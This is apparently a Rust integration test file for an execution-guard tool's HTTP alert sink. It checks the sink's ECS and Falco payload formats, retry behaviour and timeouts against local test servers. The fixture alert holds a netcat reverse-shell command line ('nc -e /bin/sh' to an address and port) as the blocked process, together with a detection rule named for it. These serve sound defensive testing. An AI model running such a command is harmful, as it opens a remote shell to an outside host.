//! The HTTP sink against real sockets on 127.0.0.1: a small server that records each
//! request and answers from a script, one that accepts and never answers, and a closed
//! port. Every bound on time is asserted, since that bound is what keeps a dead endpoint
//! from holding alerts back for longer than configured.

use std::collections::{BTreeSet, VecDeque};
use std::io::{self, BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::mpsc::{self, Receiver};
use std::thread;
use std::time::{Duration, Instant};

use execguard_alerts::{HttpConfig, HttpFormat, HttpSink, Sink};
use serde_json::{json, Value};

/// One request as the server read it.
struct Request {
    line: String,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

impl Request {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers.iter().find(|(n, _)| n.eq_ignore_ascii_case(name)).map(|(_, v)| v.as_str())
    }
}

fn read_request(stream: &TcpStream) -> io::Result<Request> {
    let mut reader = BufReader::new(stream);
    let mut line = String::new();
    reader.read_line(&mut line)?;
    let mut headers = Vec::new();
    loop {
        let mut header = String::new();
        reader.read_line(&mut header)?;
        let header = header.trim_end();
        if header.is_empty() {
            break;
        }
        let (name, value) = header.split_once(':').ok_or_else(|| io::Error::other(header.to_string()))?;
        headers.push((name.trim().to_string(), value.trim().to_string()));
    }
    let request = Request { line: line.trim_end().to_string(), headers, body: Vec::new() };
    let length = request.header("content-length").and_then(|l| l.parse().ok()).unwrap_or(0);
    let mut body = vec![0; length];
    reader.read_exact(&mut body)?;
    Ok(Request { body, ..request })
}

/// Answers the n-th connection with the n-th status of `answers` (500 once they run out),
/// and closes it. Each request is sent on the channel before it is answered, so all of a
/// `write`'s requests are there when it returns.
fn serve(answers: &[&'static str]) -> (String, Receiver<Request>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/falco", listener.local_addr().unwrap());
    let (requests, received) = mpsc::channel();
    let mut answers: VecDeque<&'static str> = answers.iter().copied().collect();
    thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.unwrap();
            stream.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
            let Ok(request) = read_request(&stream) else { continue };
            if requests.send(request).is_err() {
                return;
            }
            let status = answers.pop_front().unwrap_or("500 Unscripted");
            let body = if status.starts_with('2') { "" } else { "Please send a valid request body\n" };
            let answer = format!(
                "HTTP/1.1 {status}\r\nContent-Type: text/plain\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
            let _ = stream.write_all(answer.as_bytes());
        }
    });
    (url, received)
}

fn sink(url: &str, format: HttpFormat, timeout_ms: u64, retries: u32) -> HttpSink {
    HttpSink::new(&HttpConfig { url: url.to_string(), format, timeout_ms, retries }).unwrap()
}

/// A block by a rule, with every field the Falco format maps.
fn netcat_block() -> Value {
    json!({
        "@timestamp": "2024-05-01T06:11:07.123Z",
        "event": {"action": "exec-blocked", "id": "7d1c", "severity": 99},
        "rule": {
            "id": "falco.netcat_rce", "name": "Netcat Remote Code Execution in Container",
            "severity": "critical", "description": "Netcat with a program to run on connect",
            "ruleset": "falco", "reference": "https://github.com/falcosecurity/rules",
        },
        "decision": "block",
        "reason": "Netcat with a program to run on connect: -e",
        "host": {"name": "node-1"},
        "process": {
            "executable": "/usr/bin/nc", "args": ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"], "pid": 4242,
            "parent": {"executable": "/bin/bash", "args": ["bash"], "pid": 4200},
        },
        "container": {"id": "3f2a9c", "name": "web", "image": {"name": "registry:5000/shop/web:1.4"}},
        "orchestrator": {"namespace": "shop", "resource": {"name": "web-1", "type": "pod"}},
        "execguard": {"mode": "enforce"},
    })
}

#[test]
fn ecs_posts_the_record_as_it_is() {
    let (url, requests) = serve(&["204 No Content"]);
    let mut sink = sink(&url, HttpFormat::Ecs, 2000, 2);
    sink.write(&netcat_block()).unwrap();
    let request = requests.try_recv().unwrap();
    assert_eq!(request.line, "POST /falco HTTP/1.1");
    assert_eq!(request.header("content-type"), Some("application/json"));
    assert!(request.header("user-agent").is_some_and(|a| a.starts_with("execguard/")));
    assert_eq!(serde_json::from_slice::<Value>(&request.body).unwrap(), netcat_block());
    assert!(requests.try_recv().is_err(), "one request");
}

/// falcosidekick decodes the body into its types.FalcoPayload; these are its JSON keys
/// (less `uuid`, which it assigns) and the values its outputs show.
#[test]
fn falco_posts_what_falcosidekick_reads() {
    let (url, requests) = serve(&["200 OK"]);
    let mut sink = sink(&url, HttpFormat::Falco, 2000, 2);
    sink.write(&netcat_block()).unwrap();
    let request = requests.try_recv().unwrap();
    assert_eq!(request.line, "POST /falco HTTP/1.1");
    assert_eq!(request.header("content-type"), Some("application/json"));
    let body: Value = serde_json::from_slice(&request.body).unwrap();
    let keys: BTreeSet<&str> = body.as_object().unwrap().keys().map(String::as_str).collect();
    let falco_keys =
        BTreeSet::from(["output", "priority", "rule", "time", "output_fields", "source", "tags", "hostname"]);
    assert_eq!(keys, falco_keys);
    assert_eq!(
        body["output"],
        "06:11:07.123000000: Critical execguard blocked nc (rule falco.netcat_rce) container=web pod=shop/web-1 \
         cmdline=nc -e /bin/sh 10.0.0.1 4444 parent=bash"
    );
    assert_eq!(body["priority"], "Critical");
    assert_eq!(body["rule"], "Netcat Remote Code Execution in Container");
    assert_eq!(body["time"], "2024-05-01T06:11:07.123000000Z");
    assert_eq!(body["source"], "execguard");
    assert_eq!(body["tags"], json!(["execguard", "process", "falco", "block"]));
    assert_eq!(body["hostname"], "node-1");
    let fields = json!({
        "container.id": "3f2a9c",
        "container.name": "web",
        "container.image.repository": "registry:5000/shop/web",
        "container.image.tag": "1.4",
        "k8s.ns.name": "shop",
        "k8s.pod.name": "web-1",
        "proc.name": "nc",
        "proc.exepath": "/usr/bin/nc",
        "proc.cmdline": "nc -e /bin/sh 10.0.0.1 4444",
        "proc.pid": 4242,
        "proc.pname": "bash",
        "proc.pcmdline": "bash",
        "proc.ppid": 4200,
        "evt.type": "execve",
        "execguard.decision": "block",
        "execguard.rule.id": "falco.netcat_rce",
        "host.name": "node-1",
    });
    assert_eq!(body["output_fields"], fields);
}

/// Each row: the endpoint's answers in turn, whether the record is delivered, and how many
/// requests that takes with 2 retries.
#[test]
fn only_failures_that_may_pass_are_retried() {
    let rows: &[(&[&str], bool, usize, &str)] = &[
        (&["503 Service Unavailable", "503 Service Unavailable", "200 OK"], true, 3, "5xx is retried"),
        (&["429 Too Many Requests", "200 OK"], true, 2, "429 is retried"),
        (&["502 Bad Gateway", "502 Bad Gateway", "502 Bad Gateway"], false, 3, "retries are bounded"),
        (&["400 Bad Request"], false, 1, "400 is the same on every attempt"),
        (&["404 Not Found"], false, 1, "so is 404"),
        (&["301 Moved Permanently"], false, 1, "a redirect is reported, not followed"),
    ];
    for &(answers, delivered, count, why) in rows {
        let (url, requests) = serve(answers);
        let mut sink = sink(&url, HttpFormat::Falco, 2000, 2);
        let result = sink.write(&netcat_block());
        assert_eq!(result.is_ok(), delivered, "{why}: {result:?}");
        assert_eq!(requests.try_iter().count(), count, "{why}");
        if let Err(error) = result {
            let message = error.to_string();
            assert!(message.starts_with(&format!("http:falco {url}: the endpoint answered ")), "{message}");
            assert!(message.contains(&format!("({count} attempt")), "{message}");
        }
    }
}

#[test]
fn a_refused_record_says_what_the_endpoint_answered() {
    let (url, _requests) = serve(&["400 Bad Request"]);
    let error = sink(&url, HttpFormat::Falco, 2000, 2).write(&netcat_block()).unwrap_err();
    assert_eq!(
        error.to_string(),
        format!(
            "http:falco {url}: the endpoint answered 400 Bad Request: Please send a valid request body (1 attempt); \
             the endpoint refused the record: check the url and that format (ecs or falco) is what it reads"
        )
    );
}

#[test]
fn a_closed_port_fails_within_the_retry_bound() {
    let port = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let url = format!("http://127.0.0.1:{port}/");
    let (timeout_ms, retries) = (1000, 2);
    let start = Instant::now();
    let error = sink(&url, HttpFormat::Ecs, timeout_ms, retries).write(&netcat_block()).unwrap_err();
    let elapsed = start.elapsed();
    assert_eq!(error.kind(), io::ErrorKind::ConnectionRefused, "{error}");
    let message = error.to_string();
    assert!(message.starts_with(&format!("http:ecs {url}: ")) && message.contains("(3 attempts)"), "{message}");
    // Refusals are immediate: the time is the backoff, 100 ms then 200 ms.
    assert!(elapsed >= Duration::from_millis(300), "{elapsed:?}: the retries waited");
    assert!(elapsed < Duration::from_millis(timeout_ms * u64::from(retries + 1) + 500), "{elapsed:?}");
}

#[test]
fn an_endpoint_that_never_answers_times_out_within_the_retry_bound() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/", listener.local_addr().unwrap());
    let (connections, accepted) = mpsc::channel();
    thread::spawn(move || {
        let mut held = Vec::new();
        for stream in listener.incoming() {
            held.push(stream);
            if connections.send(()).is_err() {
                return;
            }
        }
    });
    let (timeout_ms, retries) = (300, 1);
    let start = Instant::now();
    let error = sink(&url, HttpFormat::Falco, timeout_ms, retries).write(&netcat_block()).unwrap_err();
    let elapsed = start.elapsed();
    assert_eq!(error.kind(), io::ErrorKind::TimedOut, "{error}");
    // The last attempt gets what is left of the 600 ms, a little less than 300 ms.
    let message = error.to_string();
    assert!(message.contains(": no answer within ") && message.contains(" ms (2 attempts)"), "{message}");
    assert!(elapsed >= Duration::from_millis(timeout_ms), "{elapsed:?}");
    assert!(elapsed < Duration::from_millis(timeout_ms * u64::from(retries + 1) + 300), "{elapsed:?}");
    assert_eq!(accepted.try_iter().count(), 2, "each attempt connected");
}
